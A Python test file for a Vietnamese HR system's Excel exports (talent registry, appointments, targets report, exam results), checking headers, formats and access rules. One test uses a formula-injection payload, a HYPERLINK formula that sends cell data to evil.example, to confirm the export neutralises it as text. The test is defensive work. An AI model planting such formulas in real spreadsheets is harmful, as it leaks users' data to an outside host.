"""Excel out: the talent registry, the appointments register, the targets report and an exam's
results open in openpyxl with Vietnamese headers (English on request), figures as numbers and
days as date cells, to the same people as their JSON."""
from __future__ import annotations

import io
from datetime import date, datetime

from openpyxl import load_workbook

from tests.api.support import error_of
from tests.workflows.exam_support import close_remarking, exam_with_marks, score
from workflows.programme import registry

API = "/api/v1"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
APPOINTMENT = {"post": "Phó Giám đốc Sở", "level": "pho_giam_doc_so", "unit": "SKHCN",
               "person_name": "Lê Văn Bình", "appointed_on": "2026-06-01", "decision_no": "123/QĐ-UBND"}


def workbook(response):  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == XLSX and response.headers["Content-Disposition"].startswith("attachment")
    return load_workbook(io.BytesIO(response.data))


def table(sheet) -> list[list]:  # type: ignore[no-untyped-def]
    return [[c.value for c in row] for row in sheet.iter_rows()]


def test_the_talent_registry_has_vietnamese_headers_numbers_and_real_dates(auth, store):
    with store.command() as conn:
        registry.add_talent(conn, full_name="Nguyễn Khoa", category="young_scientist", recognised_on=date(2025, 5, 1),
                            unit="SKHCN-QLKH", birth_date=date(1992, 3, 4), decision_no="12/QĐ-UBND")
        registry.add_talent(conn, full_name="Trần Giáo", category="expert", recognised_on=date(2024, 9, 2),
                            unit="SGDDT")
    sheet = workbook(auth.as_("hr").get(f"{API}/talents.xlsx")).worksheets[0]
    rows = table(sheet)
    assert rows[0] == ["STT", "Họ và tên", "Ngày sinh", "Đơn vị", "Diện", "Lĩnh vực", "Trạng thái", "Ngày công nhận",
                       "Số quyết định", "Phụ cấp (% lương)", "Hưởng phụ cấp từ ngày", "Ngày đưa ra khỏi danh sách",
                       "Lý do đưa ra khỏi danh sách", "Hồ sơ nguồn"]
    assert [r[1] for r in rows[1:]] == ["Nguyễn Khoa", "Trần Giáo"]
    born, recognised = sheet["C2"], sheet["H2"]
    assert isinstance(born.value, datetime) and born.value.date() == date(1992, 3, 4)
    assert born.number_format == "dd/mm/yyyy" and recognised.number_format == "dd/mm/yyyy"
    allowance = sheet["J2"]
    assert allowance.value == 150 and allowance.data_type == "n"
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["B"].width >= len("Nguyễn Khoa")
    assert (rows[1][4], rows[1][6]) == ("Nhà khoa học trẻ", "Đang trong danh sách")  # words, not codes
    english = workbook(auth.as_("hr").get(f"{API}/talents.xlsx", headers={"Accept-Language": "en"})).worksheets[0]
    assert english["B1"].value == "Full name" and english["C1"].value == "Date of birth"
    assert workbook(auth.as_("hr").get(f"{API}/talents.xlsx?lang=vi",
                                       headers={"Accept-Language": "en"})).worksheets[0]["B1"].value == "Họ và tên"
    # a unit head's sheet holds their units only, as their list does; others are refused as by the list
    mine = table(workbook(auth.as_("head_khcn").get(f"{API}/talents.xlsx")).worksheets[0])
    assert [r[1] for r in mine[1:]] == ["Nguyễn Khoa"]
    error_of(auth.as_("expert1").get(f"{API}/talents.xlsx"), 403)
    error_of(auth.as_("hr").get(f"{API}/talents.xlsx?lang=fr"), 422)


def test_a_name_that_reads_like_a_formula_is_exported_as_the_text_it_is(auth, store):
    trap = '=HYPERLINK("http://evil.example/?"&B3,"x")'
    with store.command() as conn:
        registry.add_talent(conn, full_name=trap, category="expert", recognised_on=date(2024, 9, 2), unit="SGDDT",
                            decision_no="-12/QĐ")
    sheet = workbook(auth.as_("hr").get(f"{API}/talents.xlsx")).worksheets[0]
    name, decision = sheet["B2"], sheet["I2"]
    assert (name.value, name.data_type) == (trap, "s")  # a text cell, not a live formula
    assert name.quotePrefix  # and Excel keeps it text when someone edits it
    assert (decision.value, decision.data_type, decision.quotePrefix) == ("-12/QĐ", "s", True)
    assert (sheet["D2"].value, sheet["D2"].quotePrefix) == ("SGDDT", False)  # ordinary text as it was


def test_the_appointments_register_says_whether_by_exam_and_whether_a_first_appointment(auth):
    assert auth.as_("hr").post(f"{API}/appointments", json=APPOINTMENT).status_code == 201
    assert auth.as_("hr").post(f"{API}/appointments", json={**APPOINTMENT, "person_name": "Đỗ Hà",
                                                            "first_appointment": False}).status_code == 201
    sheet = workbook(auth.as_("auditor").get(f"{API}/appointments.xlsx?year=2026")).worksheets[0]
    rows = table(sheet)
    headers = rows[0]
    assert headers == ["STT", "Chức danh", "Cấp chức danh", "Đơn vị", "Người được bổ nhiệm", "Ngày bổ nhiệm",
                       "Qua thi tuyển", "Bổ nhiệm lần đầu", "Số quyết định", "Nhiệm kỳ (năm)", "Hồ sơ nguồn",
                       "Người ghi nhận"]
    assert [(r[4], r[6], r[7]) for r in rows[1:]] == [("Lê Văn Bình", "Không", "Có"), ("Đỗ Hà", "Không", "Không")]
    assert sheet["F2"].value == datetime(2026, 6, 1) and sheet["F2"].number_format == "dd/mm/yyyy"
    error_of(auth.as_("head_khcn").get(f"{API}/appointments.xlsx"), 403)


def test_the_targets_report_keeps_shares_as_percent_numbers(auth):
    assert auth.as_("hr").post(f"{API}/appointments", json=APPOINTMENT).status_code == 201
    book = workbook(auth.as_("approver").get(f"{API}/reports/targets.xlsx?year=2026"))
    targets, units = book.worksheets
    share = targets["B2"]
    assert table(targets)[0] == ["Chỉ tiêu", "Kết quả", "Mức chỉ tiêu", "Đạt", "Nguồn"]
    assert [targets["A2"].value, targets["D2"].value, targets["E2"].value] == [
        "Bổ nhiệm lãnh đạo qua thi tuyển", "Chưa đạt", "sổ bổ nhiệm"]
    assert share.value == 0 and share.data_type == "n" and share.number_format == "0.0%"
    assert targets["C2"].value == 0.2 and targets["C2"].number_format == "0.0%"
    city = table(units)[1]
    assert (city[2], city[3]) == (0, 1) and units["E2"].number_format == "0.0%"
    error_of(auth.as_("head_khcn").get(f"{API}/reports/targets.xlsx?year=2026"), 403)
    error_of(auth.as_("hr").get(f"{API}/reports/targets.xlsx"), 422)


def test_an_exams_results_export_as_its_readers_may_see_them(auth, service, manual_clock):
    case_id = exam_with_marks(auth, service, manual_clock, {"TS01": 80, "TS02": 70.5, "TS03": 40})
    close_remarking(auth, service, manual_clock)
    score(auth, "member1", case_id, {"TS01": 91.5, "TS02": 62.25})
    # round 2 still sealed: there are no results to export, for anyone but the ones who may see them
    error_of(auth.as_("member1").get(f"{API}/cases/{case_id}/exports/results.xlsx"), 404)
    for member in ("chair", "secretary", "member2", "member3"):
        score(auth, member, case_id, {"TS01": 70, "TS02": 90})
    sheet = workbook(auth.as_("hr").get(f"{API}/cases/{case_id}/exports/results.xlsx")).worksheets[0]
    rows = table(sheet)
    assert rows[0] == ["Thứ hạng", "Số báo danh", "Họ và tên", "Vòng 1", "Vòng 2", "Tổng điểm", "Kết quả"]
    assert [(r[0], r[1], r[4], r[6]) for r in rows[1:]] == [
        (1, "TS02", 84.45, "trúng tuyển"), (2, "TS01", 74.3, "đạt"), (None, "TS03", None, "không đạt")]
    by_code = {r[1]: r for r in rows[1:]}
    assert by_code["TS01"][3] == 80 and by_code["TS02"][3] == 70.5
    assert by_code["TS01"][4] == 74.3 and sheet["E2"].number_format == "0.00"
    assert by_code["TS02"][5] == by_code["TS02"][3] + by_code["TS02"][4]
    assert isinstance(by_code["TS01"][0], int)
    # whoever may not know of the case gets 404, as for the case; an unknown export too
    error_of(auth.as_("expert1").get(f"{API}/cases/{case_id}/exports/results.xlsx"), 404)
    error_of(auth.as_("hr").get(f"{API}/cases/{case_id}/exports/nothing.xlsx"), 404)
    english = workbook(auth.as_("hr").get(f"{API}/cases/{case_id}/exports/results.xlsx?lang=en")).worksheets[0]
    assert [c.value for c in english[1]] == ["Rank", "Code", "Full name", "Round 1", "Round 2", "Total", "Result"]
    assert english["G2"].value == "winner"
